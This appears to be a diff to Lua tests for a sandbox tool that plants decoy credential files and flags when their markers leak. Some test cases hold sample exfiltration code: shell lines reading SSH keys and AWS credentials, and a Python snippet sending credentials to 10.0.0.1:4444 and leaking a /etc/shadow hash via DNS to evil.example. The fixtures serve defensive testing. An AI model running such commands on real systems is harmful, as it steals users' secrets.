@@ -269,20 +269,20 @@ with open("/tmp/up/f", "w") as f:
 				.. " test -r ~/'.config/google-chrome/Default/Login Data' && echo chrome;"
 				.. " { echo x >> ~/.ssh/id_rsa; } 2>/dev/null || echo ro; cat ~/.aws/credentials > /tmp/out.txt")
 			assert.are.equal(0, code, err)
-			assert.are.equal("-----BEGIN RSA PRIVATE KEY-----\n1\nroot\nsbx\nchrome\nro\n", out)
+			assert.are.equal("-----BEGIN RSA PRIVATE KEY-----\n1\nroot\ndana\nchrome\nro\n", out)
 			assert.are.equal("sandbox: exit 0\nsandbox: note: decoy ~/.aws/credentials's marker found in /tmp/out.txt\n", err)
 			local decoys = {}
 			for _, dc in ipairs(r.decoys) do decoys[dc.name] = dc end
 			assert.are.equal(4, #r.decoys)
 			for _, name in ipairs { "~/.ssh/id_rsa", "~/.aws/credentials",
 				"~/.config/google-chrome/Default/Login Data", "/etc/shadow" } do
-				assert.is_truthy(decoys[name] and decoys[name].marker:match("^sbxdecoy%x+$"), name)
+				assert.is_truthy(decoys[name] and decoys[name].marker:match("^[a-z0-9]+$") and #decoys[name].marker == 24, name)
 			end
 			-- the copied output holds the marker; the decoys as placed are not dropped files
 			local copy = assert(S.read(keep .. "/tmp/out.txt"))
 			assert.is_truthy(copy:find(decoys["~/.aws/credentials"].marker, 1, true))
 			local dropped = by_path(r.files_dropped)
-			assert.is_nil(dropped["/work/.ssh/id_rsa"])
+			assert.is_nil(dropped["/home/dana/.ssh/id_rsa"])
 			assert.is_table(dropped["/tmp/out.txt"])
 			rm()
 		end)
@@ -308,11 +308,11 @@ with open("/tmp/up/f", "w") as f:
 			if code ~= 0 then return pending("--net sink does not run here") end
 			local _, err, code2 = run("--decoys", "--net", "sink", "python3", "-c", [[
 import socket
-data = open("/work/.aws/credentials").read()
+data = open("/home/dana/.aws/credentials").read()
 s = socket.create_connection(("10.0.0.1", 4444))
 s.sendall(data[data.index("aws_secret"):].encode())
 s.close()
-m = open("/etc/shadow").read().split("$")[3].split(":")[0]
+m = "".join(c for c in open("/etc/shadow").read().split("$")[3].split(":")[0] if c.isalnum())[:40]
 try:
     socket.getaddrinfo(m + ".evil.example", 80)
 except OSError:
@@ -346,7 +346,7 @@ except OSError:
 		args[#args + 1] = "true"
 		local _, err, code = run(table.unpack(args))
 		assert.are.equal(126, code)
-		assert.are.equal("sbxlua: --tmp and --rw: at most 16 writable places in all, with /work, /tmp and /dev/shm\n", err)
+		assert.are.equal("sbxlua: --tmp and --rw: at most 16 writable places in all, with /work, /tmp, /dev/shm and the home\n", err)
 	end)
 
 	it("the core checks spec.capture field by field", function()
